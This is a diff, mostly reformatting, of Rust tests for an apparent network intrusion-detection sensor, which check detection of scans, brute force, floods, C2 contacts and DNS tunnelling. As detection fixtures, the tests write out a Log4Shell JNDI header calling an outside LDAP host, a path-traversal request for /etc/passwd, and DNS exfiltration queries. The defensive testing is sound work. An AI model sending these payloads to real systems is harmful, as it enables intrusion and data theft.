@@ -2,6 +2,8 @@
 //! threshold, counts and grouping, false positives on ordinary traffic, and
 //! the privacy promise.
 
+#![allow(clippy::unwrap_used)] // a test: a panic is the failure report
+
 use std::net::{IpAddr, SocketAddr};
 use std::sync::Arc;
 
@@ -9,7 +11,7 @@ use vigie_core::{Category, Direction, Incident, Report, Severity};
 use vigie_sensor::decode::TcpFlags;
 use vigie_sensor::engine::{Engine, Settings};
 use vigie_sensor::intel::Intel;
-use vigie_sensor::synth::{app, FrameBuilder};
+use vigie_sensor::synth::{FrameBuilder, app};
 
 const SYN: u8 = TcpFlags::SYN;
 const ACK: u8 = TcpFlags::ACK;
@@ -91,7 +93,13 @@ impl Lab {
         self.tcp(server, client, SYN | ACK, 99, &[]);
         self.tcp(client, server, ACK, seq + 1, &[]);
         self.tcp(client, server, PSH_ACK, seq + 1, request);
-        self.tcp(server, client, PSH_ACK, 100, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+        self.tcp(
+            server,
+            client,
+            PSH_ACK,
+            100,
+            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
+        );
     }
 
     fn finish(self) -> Report {
@@ -102,7 +110,11 @@ impl Lab {
 }
 
 fn only(report: &Report, category: Category) -> Vec<&Incident> {
-    report.incidents.iter().filter(|i| i.category == category).collect()
+    report
+        .incidents
+        .iter()
+        .filter(|i| i.category == category)
+        .collect()
 }
 
 fn single(report: &Report) -> &Incident {
@@ -122,7 +134,10 @@ fn a_scan_of_1000_ports_is_one_incident_of_1000_events() {
     }
     let report = lab.finish();
     let scan = single(&report);
-    assert_eq!((scan.category, scan.rule.as_str(), scan.events), (Category::Scan, "scan.syn", 1000));
+    assert_eq!(
+        (scan.category, scan.rule.as_str(), scan.events),
+        (Category::Scan, "scan.syn", 1000)
+    );
     assert_eq!(scan.source, Some(ip(ATTACKER)));
     assert_eq!(scan.direction, Direction::Inbound);
     assert_eq!(report.daily.len(), 1);
@@ -142,15 +157,39 @@ fn below_the_threshold_is_no_scan() {
 fn stealth_and_udp_scans_have_their_own_rules() {
     let mut lab = Lab::new();
     for port in 1..=30u16 {
-        lab.tcp(sock(ATTACKER, 50001), sock(SERVER, port), TcpFlags::FIN, 1, &[]);
+        lab.tcp(
+            sock(ATTACKER, 50001),
+            sock(SERVER, port),
+            TcpFlags::FIN,
+            1,
+            &[],
+        );
         lab.tcp(sock(ATTACKER, 50002), sock(SERVER, port), 0, 1, &[]);
-        lab.tcp(sock(ATTACKER, 50003), sock(SERVER, port), TcpFlags::FIN | TcpFlags::PSH | TcpFlags::URG, 1, &[]);
+        lab.tcp(
+            sock(ATTACKER, 50003),
+            sock(SERVER, port),
+            TcpFlags::FIN | TcpFlags::PSH | TcpFlags::URG,
+            1,
+            &[],
+        );
         lab.udp(sock(ATTACKER, 50004), sock(SERVER, port + 1000), b"");
     }
     let report = lab.finish();
-    let mut rules: Vec<(&str, u64)> = report.incidents.iter().map(|i| (i.rule.as_str(), i.events)).collect();
+    let mut rules: Vec<(&str, u64)> = report
+        .incidents
+        .iter()
+        .map(|i| (i.rule.as_str(), i.events))
+        .collect();
     rules.sort();
-    assert_eq!(rules, [("scan.fin", 30), ("scan.null", 30), ("scan.udp", 30), ("scan.xmas", 30)]);
+    assert_eq!(
+        rules,
+        [
+            ("scan.fin", 30),
+            ("scan.null", 30),
+            ("scan.udp", 30),
+            ("scan.xmas", 30)
+        ]
+    );
 }
 
 #[test]
@@ -173,32 +212,66 @@ fn a_ping_sweep_counts_hosts() {
     }
     let report = lab.finish();
     let sweep = single(&report);
-    assert_eq!((sweep.category, sweep.rule.as_str(), sweep.events), (Category::Sweep, "sweep.icmp", 254));
+    assert_eq!(
+        (sweep.category, sweep.rule.as_str(), sweep.events),
+        (Category::Sweep, "sweep.icmp", 254)
+    );
 }
 
 #[test]
 fn a_port_sweep_counts_hosts_on_one_port() {
     let mut lab = Lab::new();
     for host in 1..=40 {
-        lab.tcp(sock(ATTACKER, 40000), sock(&format!("192.168.1.{host}"), 445), SYN, 1, &[]);
+        lab.tcp(
+            sock(ATTACKER, 40000),
+            sock(&format!("192.168.1.{host}"), 445),
+            SYN,
+            1,
+            &[],
+        );
     }
     let sweep = single(&lab.finish()).clone();
-    assert_eq!((sweep.rule.as_str(), sweep.events, sweep.target_port), ("sweep.tcp", 40, Some(445)));
+    assert_eq!(
+        (sweep.rule.as_str(), sweep.events, sweep.target_port),
+        ("sweep.tcp", 40, Some(445))
+    );
 }
 
 #[test]
 fn ssh_brute_force_counts_connections_that_carried_data() {
     let mut lab = Lab::new();
     for attempt in 0..60u16 {
-        lab.session(sock(ATTACKER, 30000 + attempt), sock(SERVER, 22), b"SSH-2.0-libssh_0.9.6\r\n");
+        lab.session(
+            sock(ATTACKER, 30000 + attempt),
+            sock(SERVER, 22),
+            b"SSH-2.0-libssh_0.9.6\r\n",
+        );
         // More data on the same connection is still one attempt.
-        lab.tcp(sock(ATTACKER, 30000 + attempt), sock(SERVER, 22), PSH_ACK, 5, &[0u8; 200]);
+        lab.tcp(
+            sock(ATTACKER, 30000 + attempt),
+            sock(SERVER, 22),
+            PSH_ACK,
+            5,
+            &[0u8; 200],
+        );
     }
     let report = lab.finish();
     let brute = single(&report);
     assert_eq!(
-        (brute.category, brute.rule.as_str(), brute.events, brute.service.as_deref(), brute.target_port),
-        (Category::BruteForce, "brute_force.ssh", 60, Some("ssh"), Some(22))
+        (
+            brute.category,
+            brute.rule.as_str(),
+            brute.events,
+            brute.service.as_deref(),
+            brute.target_port
+        ),
+        (
+            Category::BruteForce,
+            "brute_force.ssh",
+            60,
+            Some("ssh"),
+            Some(22)
+        )
     );
     assert_eq!(brute.severity, Severity::High);
 }
@@ -207,7 +280,11 @@ fn ssh_brute_force_counts_connections_that_carried_data() {
 fn one_legitimate_login_is_not_a_brute_force() {
     let mut lab = Lab::new();
     for attempt in 0..3u16 {
-        lab.session(sock(ATTACKER, 30000 + attempt), sock(SERVER, 22), b"SSH-2.0-OpenSSH_9.2\r\n");
+        lab.session(
+            sock(ATTACKER, 30000 + attempt),
+            sock(SERVER, 22),
+            b"SSH-2.0-OpenSSH_9.2\r\n",
+        );
     }
     assert!(lab.finish().incidents.is_empty());
 }
@@ -218,7 +295,13 @@ fn ftp_counts_each_password_on_one_connection() {
     let (client, server) = (sock(ATTACKER, 33000), sock(SERVER, 21));
     lab.session(client, server, b"USER admin\r\n");
     for i in 0..25 {
-        lab.tcp(client, server, PSH_ACK, 100 + i, format!("PASS secret{i}\r\n").as_bytes());
+        lab.tcp(
+            client,
+            server,
+            PSH_ACK,
+            100 + i,
+            format!("PASS secret{i}\r\n").as_bytes(),
+        );
         lab.tcp(client, server, PSH_ACK, 200 + i, b"USER admin\r\n");
     }
     let brute = single(&lab.finish()).clone();
@@ -233,45 +316,85 @@ fn web_login_posts_are_a_brute_force() {
         let request = app::http_request(
             "POST",
             "/wp-login.php",
-            &[("Host", "mairie.example"), ("Content-Type", "application/x-www-form-urlencoded")],
+            &[
+                ("Host", "mairie.example"),
+                ("Content-Type", "application/x-www-form-urlencoded"),
+            ],
             body.as_bytes(),
         );
         lab.session(sock(ATTACKER, 20000 + i), sock(SERVER, 80), &request);
     }
     let brute = single(&lab.finish()).clone();
-    assert_eq!((brute.rule.as_str(), brute.events, brute.service.as_deref()), ("brute_force.web", 30, Some("http")));
+    assert_eq!(
+        (brute.rule.as_str(), brute.events, brute.service.as_deref()),
+        ("brute_force.web", 30, Some("http"))
+    );
 }
 
 #[test]
 fn web_exploits_are_one_incident_per_signature_and_source() {
     let mut lab = Lab::new();
     for i in 0..3u16 {
-        let log4shell = app::http_request("GET", "/", &[("Host", "mairie"), ("X-Api-Version", "${jndi:ldap://203.0.113.50/a}")], b"");
+        let log4shell = app::http_request(
+            "GET",
+            "/",
+            &[
+                ("Host", "mairie"),
+                ("X-Api-Version", "${jndi:ldap://203.0.113.50/a}"),
+            ],
+            b"",
+        );
         lab.session(sock(ATTACKER, 21000 + i), sock(SERVER, 80), &log4shell);
     }
-    let traversal = app::http_request("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", &[("Host", "mairie")], b"");
+    let traversal = app::http_request(
+        "GET",
+        "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
+        &[("Host", "mairie")],
+        b"",
+    );
     lab.session(sock(ATTACKER, 21100), sock(SERVER, 80), &traversal);
     let report = lab.finish();
     let web = only(&report, Category::WebExploit);
-    let log4shell: Vec<_> = web.iter().filter(|i| i.rule.contains("log4shell")).collect();
+    let log4shell: Vec<_> = web
+        .iter()
+        .filter(|i| i.rule.contains("log4shell"))
+        .collect();
     assert_eq!(log4shell.len(), 1, "{web:#?}");
     assert_eq!(log4shell[0].events, 3);
     assert_eq!(log4shell[0].severity, Severity::Critical);
     assert!(web.iter().any(|i| i.rule.contains("traversal")), "{web:#?}");
-    assert_eq!(report.incidents.len(), web.len(), "nothing but web exploits: {:#?}", report.incidents);
+    assert_eq!(
+        report.incidents.len(),
+        web.len(),
+        "nothing but web exploits: {:#?}",
+        report.incidents
+    );
 }
 
 #[test]
 fn a_syn_flood_from_one_source_names_it() {
     let mut lab = Lab::new();
     for i in 0..5000u32 {
-        lab.tcp(sock(ATTACKER, 1024 + (i % 60000) as u16), sock(SERVER, 80), SYN, i, &[]);
+        lab.tcp(
+            sock(ATTACKER, 1024 + (i % 60000) as u16),
+            sock(SERVER, 80),
+            SYN,
+            i,
+            &[],
+        );
         lab.advance(-MS + SEC / 2500);
     }
     let report = lab.finish();
     let flood = only(&report, Category::Flood);
     assert_eq!(flood.len(), 1, "{:#?}", report.incidents);
-    assert_eq!((flood[0].rule.as_str(), flood[0].events, flood[0].target_port), ("flood.syn", 5000, Some(80)));
+    assert_eq!(
+        (
+            flood[0].rule.as_str(),
+            flood[0].events,
+            flood[0].target_port
+        ),
+        ("flood.syn", 5000, Some(80))
+    );
     assert_eq!(flood[0].source, Some(ip(ATTACKER)));
 }
 
@@ -293,7 +416,13 @@ fn a_spoofed_flood_names_no_source() {
 fn a_slow_stream_is_no_flood() {
     let mut lab = Lab::new();
     for i in 0..3000u32 {
-        lab.tcp(sock(ATTACKER, 1024 + (i % 60000) as u16), sock(SERVER, 80), SYN, i, &[]);
+        lab.tcp(
+            sock(ATTACKER, 1024 + (i % 60000) as u16),
+            sock(SERVER, 80),
+            SYN,
+            i,
+            &[],
+        );
         lab.advance(-MS + SEC / 500);
     }
     assert!(only(&lab.finish(), Category::Flood).is_empty());
@@ -301,23 +430,54 @@ fn a_slow_stream_is_no_flood() {
 
 #[test]
 fn listed_addresses_inbound_and_outbound() {
-    let mut lab = Lab::with_intel(&[("known_attacker", ATTACKER), ("botnet_c2", "198.51.100.66\n")]);
+    let mut lab = Lab::with_intel(&[
+        ("known_attacker", ATTACKER),
+        ("botnet_c2", "198.51.100.66\n"),
+    ]);
     // Two connections from a known attacker: one incident, two events.
-    lab.session(sock(ATTACKER, 41000), sock(SERVER, 80), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n");
+    lab.session(
+        sock(ATTACKER, 41000),
+        sock(SERVER, 80),
+        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+    );
     lab.session(sock(ATTACKER, 41001), sock(SERVER, 443), b"\x16\x03\x01");
     // A workstation contacting a command centre.
-    lab.session(sock(WORKSTATION, 52000), sock("198.51.100.66", 443), b"\x16\x03\x01");
+    lab.session(
+        sock(WORKSTATION, 52000),
+        sock("198.51.100.66", 443),
+        b"\x16\x03\x01",
+    );
     let report = lab.finish();
     let hits = only(&report, Category::Reputation);
     assert_eq!(hits.len(), 2, "{hits:#?}");
-    let inbound = hits.iter().find(|i| i.direction == Direction::Inbound).unwrap();
-    assert_eq!((inbound.label.as_deref(), inbound.events, inbound.severity), (Some("known_attacker"), 2, Severity::Medium));
-    let outbound = hits.iter().find(|i| i.direction == Direction::Outbound).unwrap();
-    assert_eq!((outbound.label.as_deref(), outbound.severity), (Some("botnet_c2"), Severity::Critical));
+    let inbound = hits
+        .iter()
+        .find(|i| i.direction == Direction::Inbound)
+        .unwrap();
+    assert_eq!(
+        (inbound.label.as_deref(), inbound.events, inbound.severity),
+        (Some("known_attacker"), 2, Severity::Medium)
+    );
+    let outbound = hits
+        .iter()
+        .find(|i| i.direction == Direction::Outbound)
+        .unwrap();
+    assert_eq!(
+        (outbound.label.as_deref(), outbound.severity),
+        (Some("botnet_c2"), Severity::Critical)
+    );
     assert_eq!(outbound.source, Some(ip("198.51.100.66")));
-    assert!(outbound.internal_host.as_deref().is_some_and(|h| h.starts_with("h:")));
+    assert!(
+        outbound
+            .internal_host
+            .as_deref()
+            .is_some_and(|h| h.starts_with("h:"))
+    );
     let day = &report.daily[0];
-    assert_eq!((day.category, day.count, day.outbound), (Category::Reputation, 2, 1));
+    assert_eq!(
+        (day.category, day.count, day.outbound),
+        (Category::Reputation, 2, 1)
+    );
 }
 
 #[test]
@@ -333,8 +493,11 @@ fn listed_names_in_dns_sni_and_host() {
     let other = app::dns_query(8, "notevil-c2.example", 1);
     lab.udp(sock(WORKSTATION, 53003), sock("192.168.1.1", 53), &other);
     let report = lab.finish();
-    let mut rules: Vec<(&str, Option<&str>)> =
-        report.incidents.iter().map(|i| (i.rule.as_str(), i.indicator.as_deref())).collect();
+    let mut rules: Vec<(&str, Option<&str>)> = report
+        .incidents
+        .iter()
+        .map(|i| (i.rule.as_str(), i.indicator.as_deref()))
+        .collect();
     rules.sort();
     assert_eq!(
         rules,
@@ -344,36 +507,91 @@ fn listed_names_in_dns_sni_and_host() {
             ("reputation.tls_sni", Some("evil-c2.example")),
         ]
     );
-    assert!(report.incidents.iter().all(|i| i.direction == Direction::Outbound && i.severity == Severity::Critical));
-    let dns = report.incidents.iter().find(|i| i.rule == "reputation.dns").unwrap();
+    assert!(
+        report
+            .incidents
+            .iter()
+            .all(|i| i.direction == Direction::Outbound && i.severity == Severity::Critical)
+    );
+    let dns = report
+        .incidents
+        .iter()
+        .find(|i| i.rule == "reputation.dns")
+        .unwrap();
     assert_eq!(dns.source, None, "the town hall's resolver is no attacker");
 }
 
 #[test]
 fn generated_names_and_tunnels() {
     let mut lab = Lab::new();
-    for (i, name) in ["xjwqkzpqvbltr", "qwrtzpsdfghkl", "mnbvcxzlkjhgf", "pqzrtxwvbnmks", "zxcvbnmqwrtps", "lkjhgfdsqwrtz"].iter().enumerate() {
+    for (i, name) in [
+        "xjwqkzpqvbltr",
+        "qwrtzpsdfghkl",
+        "mnbvcxzlkjhgf",
+        "pqzrtxwvbnmks",
+        "zxcvbnmqwrtps",
+        "lkjhgfdsqwrtz",
+    ]
+    .iter()
+    .enumerate()
+    {
         let query = app::dns_query(i as u16, &format!("{name}.com"), 1);
-        lab.udp(sock(WORKSTATION, 5000 + i as u16), sock("192.168.1.1", 53), &query);
+        lab.udp(
+            sock(WORKSTATION, 5000 + i as u16),
+            sock("192.168.1.1", 53),
+            &query,
+        );
     }
     for i in 0..25u16 {
-        let label = format!("{:0>60}", format!("{i}mzxw6ytboi4dqmjzgmytcnrzgq3tsobqgeytcnrz"));
+        let label = format!(
+            "{:0>60}",
+            format!("{i}mzxw6ytboi4dqmjzgmytcnrzgq3tsobqgeytcnrz")
+        );
         let query = app::dns_query(100 + i, &format!("{label}.t.exfil.example"), 16);
-        lab.udp(sock("192.168.1.24", 6000 + i), sock("192.0.2.53", 53), &query);
+        lab.udp(
+            sock("192.168.1.24", 6000 + i),
+            sock("192.0.2.53", 53),
+            &query,
+        );
     }
     // Ordinary browsing from a third machine.
-    for (i, name) in ["www.service-public.fr", "www.impots.gouv.fr", "fr.wikipedia.org", "www.leboncoin.fr", "mail.google.com", "login.microsoftonline.com"].iter().enumerate() {
+    for (i, name) in [
+        "www.service-public.fr",
+        "www.impots.gouv.fr",
+        "fr.wikipedia.org",
+        "www.leboncoin.fr",
+        "mail.google.com",
+        "login.microsoftonline.com",
+    ]
+    .iter()
+    .enumerate()
+    {
         let query = app::dns_query(200 + i as u16, name, 1);
-        lab.udp(sock("192.168.1.25", 7000 + i as u16), sock("192.168.1.1", 53), &query);
+        lab.udp(
+            sock("192.168.1.25", 7000 + i as u16),
+            sock("192.168.1.1", 53),
+            &query,
+        );
     }
     let report = lab.finish();
-    let mut found: Vec<(&str, u64)> = report.incidents.iter().map(|i| (i.rule.as_str(), i.events)).collect();
+    let mut found: Vec<(&str, u64)> = report
+        .incidents
+        .iter()
+        .map(|i| (i.rule.as_str(), i.events))
+        .collect();
     found.sort();
     assert_eq!(found, [("dns.dga", 6), ("dns.tunnel", 25)]);
-    let hosts: std::collections::HashSet<_> = report.incidents.iter().map(|i| i.internal_host.clone()).collect();
+    let hosts: std::collections::HashSet<_> = report
+        .incidents
+        .iter()
+        .map(|i| i.internal_host.clone())
+        .collect();
     assert_eq!(hosts.len(), 2, "two machines told apart");
     let json = serde_json::to_string(&report).unwrap();
-    assert!(!json.contains("exfil") && !json.contains("xjwqkzpqvbltr"), "names never leave the box: {json}");
+    assert!(
+        !json.contains("exfil") && !json.contains("xjwqkzpqvbltr"),
+        "names never leave the box: {json}"
+    );
 }
 
 #[test]
@@ -398,24 +616,56 @@ fn ordinary_traffic_yields_no_incident() {
 
 #[test]
 fn the_generated_attacks_are_all_found_with_their_counts() {
-    use vigie_sensor::synth::traffic::{write_capture, Attacks, Mix};
+    use vigie_sensor::synth::traffic::{Attacks, Mix, write_capture};
     let mut out = Vec::new();
-    let mix = Mix { packets: 40_000, start: T0, packets_per_second: 500, seed: 9, attacks: true };
+    let mix = Mix {
+        packets: 40_000,
+        start: T0,
+        packets_per_second: 500,
+        seed: 9,
+        attacks: true,
+    };
     write_capture(&mut out, &mix).unwrap();
     let mut reader = vigie_sensor::capture::CaptureReader::new(&out[..]).unwrap();
     let mut engine = Engine::new(Settings::default());
     engine.read_capture(&mut reader).unwrap();
     let report = engine.finish();
-    let find = |rule: &str| report.incidents.iter().filter(|i| i.rule == rule).collect::<Vec<_>>();
+    let find = |rule: &str| {
+        report
+            .incidents
+            .iter()
+            .filter(|i| i.rule == rule)
+            .collect::<Vec<_>>()
+    };
     let scan = find("scan.syn");
-    assert_eq!((scan.len(), scan[0].events, scan[0].source), (1, u64::from(Attacks::SCANNED_PORTS), Some(IpAddr::V4(Attacks::SCANNER))));
+    assert_eq!(
+        (scan.len(), scan[0].events, scan[0].source),
+        (
+            1,
+            u64::from(Attacks::SCANNED_PORTS),
+            Some(IpAddr::V4(Attacks::SCANNER))
+        )
+    );
     let ssh = find("brute_force.ssh");
-    assert_eq!((ssh.len(), ssh[0].events), (1, u64::from(Attacks::SSH_ATTEMPTS)));
+    assert_eq!(
+        (ssh.len(), ssh[0].events),
+        (1, u64::from(Attacks::SSH_ATTEMPTS))
+    );
     let sweep = find("sweep.icmp");
-    assert_eq!((sweep.len(), sweep[0].events), (1, u64::from(Attacks::SWEPT_HOSTS)));
+    assert_eq!(
+        (sweep.len(), sweep[0].events),
+        (1, u64::from(Attacks::SWEPT_HOSTS))
+    );
     let web = only(&report, Category::WebExploit);
-    assert!(web.len() >= 3 && web.iter().all(|i| i.source == Some(IpAddr::V4(Attacks::WEB_ATTACKER))), "{web:#?}");
-    let categories: std::collections::BTreeSet<_> = report.incidents.iter().map(|i| i.category).collect();
+    assert!(
+        web.len() >= 3
+            && web
+                .iter()
+                .all(|i| i.source == Some(IpAddr::V4(Attacks::WEB_ATTACKER))),
+        "{web:#?}"
+    );
+    let categories: std::collections::BTreeSet<_> =
+        report.incidents.iter().map(|i| i.category).collect();
     assert_eq!(categories.len(), 4, "{:#?}", report.incidents);
 }
 
@@ -426,14 +676,26 @@ fn nothing_of_the_commune_leaves_in_the_report() {
     let request = app::http_request(
         "POST",
         &format!("/wp-login.php?user={MARKER}"),
-        &[("Host", "intranet.mairie.example"), ("Cookie", MARKER), ("Content-Type", "application/x-www-form-urlencoded")],
+        &[
+            ("Host", "intranet.mairie.example"),
+            ("Cookie", MARKER),
+            ("Content-Type", "application/x-www-form-urlencoded"),
+        ],
         format!("pwd={MARKER}").as_bytes(),
     );
     for i in 0..20u16 {
         lab.session(sock(ATTACKER, 10000 + i), sock(SERVER, 80), &request);
-        lab.session(sock(WORKSTATION, 11000 + i), sock("198.51.100.66", 80), &request);
+        lab.session(
+            sock(WORKSTATION, 11000 + i),
+            sock("198.51.100.66", 80),
+            &request,
+        );
         let query = app::dns_query(i, &format!("{MARKER}.intranet.mairie.example"), 1);
-        lab.udp(sock(WORKSTATION, 12000 + i), sock("192.168.1.1", 53), &query);
+        lab.udp(
+            sock(WORKSTATION, 12000 + i),
+            sock("192.168.1.1", 53),
+            &query,
+        );
     }
     for port in 1..=100 {
         lab.tcp(sock(WORKSTATION, 9999), sock(SERVER, port), SYN, 1, &[]);
@@ -441,7 +703,14 @@ fn nothing_of_the_commune_leaves_in_the_report() {
     let report = lab.finish();
     assert!(!report.incidents.is_empty());
     let json = serde_json::to_string(&report).unwrap().to_lowercase();
-    for secret in [MARKER.to_lowercase().as_str(), "192.168.", "wp-login", "intranet", "mairie.example", "pwd="] {
+    for secret in [
+        MARKER.to_lowercase().as_str(),
+        "192.168.",
+        "wp-login",
+        "intranet",
+        "mairie.example",
+        "pwd=",
+    ] {
         assert!(!json.contains(secret), "{secret:?} leaked: {json}");
     }
 }
@@ -450,13 +719,23 @@ fn nothing_of_the_commune_leaves_in_the_report() {
 fn malformed_frames_are_counted_and_skipped() {
     let mut engine = Engine::new(Settings::default());
     engine.process(T0, 1, &[0xff; 10], 10);
-    engine.process(T0, 1, b"\x00\x01\x02\x03\x04\x05\x00\x01\x02\x03\x04\x05\x08\x00\x45\x00", 16);
+    engine.process(
+        T0,
+        1,
+        b"\x00\x01\x02\x03\x04\x05\x00\x01\x02\x03\x04\x05\x08\x00\x45\x00",
+        16,
+    );
     engine.process(T0, 9999, &[0; 60], 60);
     let mut frames = FrameBuilder::new();
-    let good = frames.tcp(sock(ATTACKER, 1), sock(SERVER, 2), SYN, 1, 1, &[]).to_vec();
+    let good = frames
+        .tcp(sock(ATTACKER, 1), sock(SERVER, 2), SYN, 1, 1, &[])
+        .to_vec();
     engine.process(T0 + SEC, 1, &good, good.len() as u32);
     let stats = *engine.stats();
-    assert_eq!((stats.packets, stats.malformed, stats.unsupported_link), (4, 2, 1));
+    assert_eq!(
+        (stats.packets, stats.malformed, stats.unsupported_link),
+        (4, 2, 1)
+    );
     let report = engine.finish();
     assert_eq!(report.malformed, 2);
 }
@@ -466,7 +745,11 @@ fn days_are_paris_days() {
     // 23:30 and 00:30 Paris time in winter are 22:30 and 23:30 UTC.
     let mut report_days = Vec::new();
     for at in ["2026-01-15T22:30:00Z", "2026-01-15T23:30:00Z"] {
-        let start = at.parse::<chrono::DateTime<chrono::Utc>>().unwrap().timestamp_nanos_opt().unwrap();
+        let start = at
+            .parse::<chrono::DateTime<chrono::Utc>>()
+            .unwrap()
+            .timestamp_nanos_opt()
+            .unwrap();
         let mut lab = Lab::new();
         lab.now = start;
         for port in 1..=20u16 {
